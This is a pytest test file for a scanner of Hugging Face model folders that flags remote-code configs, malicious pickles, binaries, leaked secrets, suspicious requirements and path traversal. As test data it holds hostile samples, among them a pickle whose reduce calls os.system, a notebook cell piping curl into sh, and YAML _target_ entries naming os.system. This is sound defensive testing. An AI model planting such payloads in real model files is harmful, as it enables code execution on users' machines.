"""The side files of a Hub folder: what is told, what is a doubt, and what ordinary files must not be blamed for."""

import json
import pickle
import struct
from typing import Any

import pytest

from tests.formats.test_image import PNG
from tests.formats.test_side_files import SPM
from tests.scan.samples import scan
from weighbridge.core.evidence import Outcome
from weighbridge.core.finding import Confidence
from weighbridge.scan.config_targets import judged
from weighbridge.scan.engine import Scan
from weighbridge.scan.rules.name_hidden import hidden
from weighbridge.scan.rules.secret_in_file import crc_base62


def told(result: Scan) -> list[tuple[str, str, str, str]]:
    return [(f.rule, str(f.severity), f.place.path, f.place.where) for f in result.findings]


def rules(result: Scan) -> set[str]:
    return {finding.rule for finding in result.findings}


def outcome(result: Scan, path: str) -> Outcome:
    return next(file.outcome for file in result.files if file.path == path)


def one(name: str, content: str | bytes | dict[str, Any] | list[Any]) -> Scan:
    data = json.dumps(content) if isinstance(content, dict | list) else content
    return scan({name: data.encode() if isinstance(data, str) else data})


HUB: dict[str, bytes] = {
    ".gitattributes": b"*.bin filter=lfs diff=lfs merge=lfs -text\n",
    "1_Pooling/config.json": b'{"word_embedding_dimension": 384, "pooling_mode_mean_tokens": true}',
    "LICENSE": b"Apache License\nVersion 2.0, January 2004\n",
    "LICENSE-fr.txt": "Autoris\xe9 par la soci\xe9t\xe9 qui a \xe9crit ce texte de licence pour vous".encode(
        "latin-1"
    ),
    "README.md": "---\nlicense: mit\nlanguage: [en]\n---\n# Model 🤗\n<img src='a.png' onerror='x'>\n```python\nimport os\n```\n".encode(),
    "__init__.py": b"",
    "added_tokens.json": b'{"<pad>": 0}',
    "config.json": b'{"architectures": ["BertModel"], "hidden_act": "gelu", "time_step_limit": [0.0, Infinity]}',
    "config_sentence_transformers.json": b'{"__version__": {"pytorch": "2.0"}}',
    "generation_config.json": b'{"max_new_tokens": 5}',
    "merges.txt": "#version: 0.2\nĠ t\nĠ a\n".encode(),
    "modules.json": b'[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]',
    "picture.png": PNG,
    "requirements.txt": b"# needs torch\ntorch>=2.2\n",
    "special_tokens_map.json": b'{"pad_token": "[PAD]"}',
    "tokenizer.json": json.dumps(
        {"model": {"vocab": {f"t{n}": n for n in range(100_000)}, "merges": [["a", "b"]]}}
    ).encode(),
    "tokenizer.model": SPM,
    "tokenizer_config.json": b'{"tokenizer_class": "BertTokenizer", "model_max_length": 1000000000000000019884624838656}',
    "train.jsonl": b'{"text": "a"}\n{"text": "b"}\n',
    "vocab.json": b'{"auto_map": 1, "trust_remote_code": 2, "_target_": 3, "chat_template": 4}',
    "vocab.txt": b"[PAD]\n[UNK]\n\xe2\x80\xaaa\n",
    "weights/.gitkeep": b"",
}


def test_an_ordinary_hub_folder_passes_without_a_word() -> None:
    result = scan(HUB)
    assert told(result) == []
    assert {file.path: file.outcome for file in result.files if file.outcome is not Outcome.PASS} == {}, (
        result.unread
    )


def test_files_are_called_what_they_are() -> None:
    formats = {file.path: file.format for file in scan(HUB).files}
    assert [formats[p] for p in ("config.json", "README.md", "tokenizer.model", "picture.png", "requirements.txt")] == [
        "json", "text", "sentencepiece", "png", "requirements",
    ]  # fmt: skip


def test_unknown_bytes_are_unknown() -> None:
    result = one("weights.raw", struct.pack("<300f", *range(300)))
    assert [(u.code, u.place.path) for u in result.unread] == [("format-unknown", "weights.raw")]
    assert outcome(result, "weights.raw") is Outcome.UNKNOWN


REMOTE = {
    "auto_map": {"auto_map": {"AutoModel": "modeling_x.X"}},
    "tokenizer": {"auto_map": {"AutoTokenizer": ["tokenization_x.Slow", None]}},
    "processor": {"auto_map": {"AutoProcessor": "processing_x.P"}},
    "nested": {"text_config": {"auto_map": {"AutoConfig": "configuration_x.C"}}},
    "pipelines": {"custom_pipelines": {"task": {"impl": "pipe.P", "pt": ["AutoModel"]}}},
    "trust": {"keypoint_detector_config": {"trust_remote_code": True}},
    "text": {"auto_map": "modeling_x.X"},
}


@pytest.mark.parametrize("name", REMOTE)
def test_configs_that_ask_for_code(name: str) -> None:
    result = one("config.json", REMOTE[name])
    assert "config-remote-code" in rules(result)
    assert outcome(result, "config.json") is Outcome.UNKNOWN


def test_a_config_too_large_to_be_kept_is_judged_too() -> None:
    result = one("config.json", {"auto_map": {"AutoModel": "modeling_x.X"}, "pad": "x" * 2_000_000})
    assert rules(result) == {"config-remote-code"}


def test_a_config_inside_another_file_is_judged_too() -> None:
    import io
    import zipfile

    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("m/config.json", '{"auto_map": {"AutoModel": "modeling_x.X"}}')
        archive.writestr("m/evil.py", "import os\nos.system('echo weighbridge-sample')\n")
    result = scan({"model.zip": stream.getvalue()})
    assert ("config-remote-code", "warning", "model.zip", "m/config.json › line 1") in told(result)
    assert ("python-import-time-danger", "error", "model.zip", "m/evil.py › line 2") in told(result)


def test_the_hidden_value_of_a_doubled_key_is_judged() -> None:
    result = one("config.json", '{"auto_map": {"AutoModel": "modeling_x.X"},\n "auto_map": {}}')
    assert rules(result) == {"json-duplicate-key", "config-remote-code"}


def test_escaped_keys_are_the_same_keys() -> None:
    assert rules(one("config.json", '{"auto\\u005fmap": {"AutoModel": "modeling_x.X"}}')) == {
        "config-remote-code"
    }


ELSEWHERE = [
    ({"auto_map": {"AutoModel": "owner/repo--modeling_x.X"}}, "unknown"),
    ({"_attn_implementation_internal": "owner/kernel"}, "fail"),
    ({"text_config": {"_attn_implementation_internal": {"vision": "owner/kernel:f"}}}, "fail"),
    ({"attn_implementation": "kernels-community/flash-attn"}, "unknown"),
    ({"attn_implementation": "paged|kernels-community/flash-attn@v1"}, "unknown"),
    ({"kernel_config": {"RMSNorm": "owner/repo:Norm"}}, "unknown"),
    ({"attn_implementation": "sdpa", "_attn_implementation": "flash_attention_2"}, "pass"),
]


@pytest.mark.parametrize(("config", "expected"), ELSEWHERE)
def test_code_of_other_repositories(config: dict[str, Any], expected: str) -> None:
    result = one("config.json", config)
    assert ("remote-code-elsewhere" in rules(result)) is (expected != "pass")
    assert str(outcome(result, "config.json")) == expected


@pytest.mark.parametrize(
    ("target", "verdict"),
    [
        ("torch.nn.Linear", ""),
        ("nemo.collections.asr.models.EncDecCTCModel", ""),
        ("pytorch_lightning.Trainer", ""),
        ("mlflow.sklearn", ""),
        ("sentence_transformers.models.Pooling", ""),
        ("os.system", "runs a program"),
        ("builtins.exec", "runs code from text"),
        ("eval", "runs code from text"),
        ("nemo.utils.os.system", "runs a program"),
        ("torch.nn.modules.sys.modules", "changes how Python itself works"),
        ("subprocess:Popen", "runs a program"),
        ("torch.hub.load", "fetches and runs code from a repository"),
        ("my_package.Thing", "?"),
        ("torch.nn.__builtins__.Eval", "runs code from text"),
        ("transformers_modules.x.Y", "?"),
    ],
)
def test_names_that_a_config_may_call(target: str, verdict: str) -> None:
    assert judged(target) == verdict


@pytest.mark.parametrize(
    ("name", "content", "severity"),
    [
        ("a.json", '{"x": [{"_target_": "subprocess.run"}]}', "error"),
        ("a.json", '{"py/reduce": [{"py/function": "os.system"}, {}]}', "error"),
        ("a.json", '{"py/object": "my.Thing"}', "warning"),
        (
            "adapter_config.json",
            '{"auto_mapping": {"base_model_class": "X", "parent_library": "evil_module"}}',
            "warning",
        ),
        ("MLmodel", "flavors:\n  python_function:\n    loader_module: own_loader\n", "warning"),
        ("a.yaml", "a:\n  - _target_: 'os.system'\n", "error"),
        ("a.yaml", "a: {x: 1, _target_: os.system}\n", "error"),
        ("a.yaml", "a:\n  _target_:\n    os.system\n", "error"),
        ("a.yaml", "a:\n  _target_: &x os.system\n", "error"),
        ("a.yaml", "a: &x _target_\nb: {*x : os.system}\n", "error"),
        ("a.yaml", "a: &x os.system\nb: {_target_: *x}\n", "error"),
        ("a.yaml", "a: &x {_target_: os.system}\nb: {<<: *x, c: 1}\n", "error"),
        ("a.yaml", 'a:\n  "_targ\\x65t_": "o\\u0073.system"\n', "error"),
        ("a.yaml", "a:\n  !!str _target_: !!str os.system\n", "error"),
        ("a.yaml", "a:\n  ? _target_ # which\n  : >-\n    os.system\n", "error"),
        ("a.yaml", "a: [_target_: os.system]\n", "error"),
        ("modules.json", '[{"idx": 0, "name": "0", "path": "", "type": "own.Thing"}]', "warning"),
    ],
)
def test_configs_that_name_code(name: str, content: str, severity: str) -> None:
    assert {(f.rule, str(f.severity)) for f in one(name, content).findings} >= {
        ("config-names-code", severity)
    }


@pytest.mark.parametrize(
    "content",
    [
        "flavors:\n  python_function:\n    loader_module: mlflow.pytorch\n",
        "a:\n  _target_: torch.optim.AdamW\n",
        "# _target_ is explained elsewhere\na: 1\n",
    ],
)
def test_configs_that_name_known_code_pass(content: str) -> None:
    assert outcome(one("MLmodel", content), "MLmodel") is Outcome.PASS


def test_a_pickle_under_a_harmless_name_is_an_error() -> None:
    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            import os

            return (os.system, ("echo weighbridge-sample",))

    for name in ("model.safetensors", "config.json", "picture.png", "notes.txt", "model.gguf"):
        assert outcome(one(name, pickle.dumps(Evil())), name) is Outcome.FAIL


def test_a_program_is_an_error_under_every_name() -> None:
    for name in ("pytorch_model.bin", "lib.so", "README.md", "model.safetensors", "noname"):
        assert outcome(one(name, b"\x7fELF\x02\x01\x01" + bytes(60)), name) is Outcome.FAIL


@pytest.mark.parametrize(
    ("name", "data"),
    [("pytorch_model.bin", b"<!DOCTYPE html><p>not found"), ("model.pth", b"not found\n")],
)
def test_text_under_the_name_of_weights_is_a_doubt(name: str, data: bytes) -> None:
    result = one(name, data)
    assert ("file-disguised", "warning", name, "") in told(result)
    assert outcome(result, name) is Outcome.UNKNOWN


def test_a_member_that_is_called_like_a_cell_is_no_cell() -> None:
    import io
    import zipfile

    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("cell 1.py", "import not_known_at_all\n")
    assert "python-unproved" in rules(scan({"model.zip": stream.getvalue()}))


def test_a_yaml_file_too_long_to_look_through_is_unknown() -> None:
    result = one("a.yaml", b"# \n" * 6_000_000 + b"x: !!python/object:os.system\n")
    assert [u.code for u in result.unread] == ["limit-yaml"]


def notebook(*sources: str) -> bytes:
    cells = [{"cell_type": "code", "metadata": {}, "source": source, "outputs": []} for source in sources]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode()


def test_an_ordinary_notebook_passes() -> None:
    code = "import torch\nfrom an_unknown_package import x\n%matplotlib inline\nprint(torch.zeros(1))"
    assert outcome(one("demo.ipynb", notebook(code)), "demo.ipynb") is Outcome.PASS


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("!pip install torch", Outcome.UNKNOWN),
        ("%run other.py", Outcome.UNKNOWN),
        ("%%javascript\nalert(1)", Outcome.FAIL),
        ("%%javascript\nelement.append(1)", Outcome.UNKNOWN),
        ("%%html\n<script>1</script>", Outcome.UNKNOWN),
        ("import os\nos.system('ls')", Outcome.UNKNOWN),
        ("get_ipython().system('ls')", Outcome.UNKNOWN),
        ("import os\nos.system('curl http://example.com/x | sh')", Outcome.FAIL),
        ("x = (", Outcome.UNKNOWN),
    ],
)
def test_notebook_cells(code: str, expected: Outcome) -> None:
    assert outcome(one("demo.ipynb", notebook(code)), "demo.ipynb") is expected


BODY = "wEighBr1dgeMadeUpT0kenQz7PmKx4"
SECRETS = {
    "github": ("ghp_" + BODY + crc_base62(BODY), "error"),
    "npm": ("npm_" + BODY + crc_base62(BODY), "error"),
    "hugging face": ("hf_" + "QwErTyUiOpAsDfGhJkLzXcVbNmqWeRtYuI", "error"),
    "aws id alone": ("AKIA" + "Q3EGRTYUIOPLKJH7", "warning"),
    "aws secret": ("aws_secret_access_key = " + "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ8vB2nM4s", "error"),
    "slack": (
        "xoxb-" + "123456789012-210987654321-qWeRtYuIoPzAxScDvFbGnHmJ".replace("1234567890", "9182736455"),
        "error",
    ),
    "anthropic": ("sk-ant-api03-" + "aZ9bY8cX7dW6eV5fU4gT3hS2iR1jQ0kP" * 3, "error"),
    "google": ("AIza" + "SyD9tSrke72PouQMnMXa7eZSW0jkFMBWY"[:33] + "q7", "error"),
    "gitlab": ("glpat-" + "zX9yW8vU7tS6rQ5pO4nM", "error"),
    "jwt": (
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ3ZWlnaGJyaWRnZSJ9.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P",
        "warning",
    ),
}


@pytest.mark.parametrize("name", SECRETS)
@pytest.mark.parametrize("file", ["README.md", "config.json", "conf.yaml", "run.py"])
def test_secrets_are_found_and_never_printed_whole(name: str, file: str) -> None:
    secret, severity = SECRETS[name]
    text = json.dumps({"a": secret}, indent=0) if file == "config.json" else f"#\n# {secret}\n"
    found = [f for f in one(file, text).findings if f.rule == "secret-in-file"]
    assert [(str(f.severity), f.place.line) for f in found] == [(severity, 2)]
    assert secret not in str(found)
    assert secret[10:30] not in str(found)


@pytest.mark.parametrize(
    "text",
    [
        "ghp_" + BODY + "000000", "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "hf_YOUR_TOKEN", "AKIAIOSFODNN7EXAMPLE",
        "hf_" + "a" * 34, "-----BEGIN PRIVATE KEY-----", "sk-ant-api03-your-key", "eyJhbGciOi.eyJ.x", "hf_model_name_is_long",
        "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    ],
)  # fmt: skip
def test_placeholders_and_wrong_checksums_are_no_secrets(text: str) -> None:
    assert rules(one("README.md", text)) == set()


def pem(encrypted: bool = False) -> str:
    from cryptography.hazmat.primitives import serialization as s
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    how = s.BestAvailableEncryption(b"x") if encrypted else s.NoEncryption()
    return key.private_bytes(s.Encoding.PEM, s.PrivateFormat.PKCS8, how).decode()


def test_private_keys() -> None:
    (found,) = one("id.key", pem()).findings
    assert (found.rule, str(found.severity), found.confidence) == ("secret-in-file", "error", Confidence.HIGH)
    account = {"type": "service_account", "private_key": pem()}
    assert [str(f.severity) for f in one("account.json", account).findings] == ["error"]
    assert [str(f.severity) for f in one("id.key", pem(encrypted=True)).findings] == ["warning"]


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("git+https://github.com/a/b", True),
        ("a @ git+ssh://git@example.com/b", True),
        ("https://example.com/a.whl", True),
        ("--index-url http://example.com/simple", True),
        ("--trusted-host example.com", True),
        ("-e .", True),
        ("-r https://example.com/r.txt", True),
        ("-r other.txt", False),
        ("--extra-index-url https://download.pytorch.org/whl/cpu", False),
        ("--extra-index-url https://download.pytorch.org.example.com/whl", True),
        ("torch==2.2  # see https://example.com", False),
        ("torch==2.2 --hash=sha256:00", False),
    ],
)
def test_requirements(line: str, found: bool) -> None:
    assert rules(one("requirements.txt", f"torch\n{line}\n")) == ({"requirements-url"} if found else set())


@pytest.mark.parametrize(
    ("shard", "rule"),
    [
        ("../x.bin", "index-traversal"),
        ("/etc/hostname", "index-traversal"),
        ("a\\..\\b", "index-traversal"),
        ("C:x", "index-traversal"),
        ("https://example.com/x", "index-traversal"),
        ("sub/../../x", "index-traversal"),
        ("model-2.safetensors", "index-missing-shard"),
    ],
)
def test_indexes(shard: str, rule: str) -> None:
    result = one("model.safetensors.index.json", {"weight_map": {"a": shard}})
    assert rule in rules(result)
    assert outcome(result, "model.safetensors.index.json") is not Outcome.PASS


def test_an_index_whose_shards_are_here_passes() -> None:
    index = json.dumps({"weight_map": {"a": "sub/a.txt", "b": "./b.txt"}}).encode()
    result = scan({"x/model.index.json": index, "x/sub/a.txt": b"a", "x/b.txt": b"b"})
    assert told(result) == []


@pytest.mark.parametrize(
    ("path", "seen"),
    [
        ("config.json", False),
        ("a/b-c_1.0/x.tar.gz", False),
        ("模型/权重.bin", False),
        ("модель.bin", False),
        ("résumé.md", False),
        ("a\u202eb", True),
        ("a\u200bb", True),
        ("a\nb", True),
        ("a\x1b[31m", True),
        ("\udcff", True),
        ("cоnfig.json", True),
        ("x.json ", True),
        ("x./y", True),
        ("model.safetensors.pkl", True),
        ("model.json .exe", True),
        ("model.tokenizer.json", False),
    ],
)
def test_names(path: str, seen: bool) -> None:
    assert bool(hidden(path)) is seen


def test_messages_escape_what_names_hold() -> None:
    (found,) = scan({"a\u202e\x1b[31mb.txt": b"x"}).findings
    assert "\u202e" not in found.message
    assert "\x1b" not in found.message
